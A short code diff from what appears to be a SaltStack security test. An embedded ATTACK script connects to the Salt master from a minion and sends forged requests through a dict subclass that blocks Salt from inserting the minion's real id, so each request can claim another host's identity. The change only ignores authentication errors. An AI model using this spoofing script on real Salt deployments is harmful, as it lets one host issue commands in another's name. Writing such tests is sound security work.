@@ -24,7 +24,7 @@ EVENTS, MOST_SECONDS = 2000, 30
 # Salt's client would put the minion's own id into each request.
 ATTACK = """
 import json, sys
-import salt.channel.client, salt.config, salt.payload, zmq
+import salt.channel.client, salt.config, salt.exceptions, salt.payload, zmq
 
 class Forged(dict):
     def __setitem__(self, key, value):
@@ -36,7 +36,10 @@ opts = salt.config.minion_config("/etc/salt/minion")
 uri = f"tcp://{opts['master']}:{opts['master_port']}"
 with salt.channel.client.ReqChannel.factory(opts, master_uri=uri) as channel:
     for load in given["loads"] * given["times"]:
-        channel.send(Forged(load), tries=1, timeout=30)
+        try:
+            channel.send(Forged(load), tries=1, timeout=30)
+        except salt.exceptions.AuthenticationError:
+            pass  # the answer is encrypted for the host that was named
 with zmq.Context() as context:
     for load in given["raw"]:
         with context.socket(zmq.REQ) as socket:
